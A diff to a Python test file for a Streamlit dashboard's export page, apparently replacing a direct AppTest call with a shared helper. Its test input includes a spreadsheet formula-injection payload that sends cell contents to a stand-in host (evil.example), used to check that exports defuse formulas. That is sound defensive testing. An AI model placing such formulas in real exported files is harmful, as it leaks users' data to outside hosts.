@@ -11,14 +11,13 @@ from datetime import UTC, datetime
 import pandas as pd
 import pytest
 import streamlit as st
-from streamlit.testing.v1 import AppTest
 
 from summitpulse.normalise import normalise
 from summitpulse.outputs.export import EXPORTS
 from summitpulse.outputs.report import write_data_files
 from summitpulse.store.engine import ingest, open_store
 
-from .conftest import ROOT
+from .conftest import ROOT, dashboard_app
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
@@ -119,7 +118,7 @@ def test_the_export_pages_download_defuses_formulas(monkeypatch, tmp_path, confi
     monkeypatch.setenv("SUMMITPULSE_CONFIG", str(ROOT / "config.yaml"))
     offered = []
     monkeypatch.setattr(st, "download_button", lambda label, data, *a, **k: offered.append(data))
-    at = AppTest.from_file(str(ROOT / "dashboard.py"), default_timeout=90)
+    at = dashboard_app()
     at.session_state["organiser"] = True
     at.switch_page("pages/export.py").run()
     at.button[0].click().run()
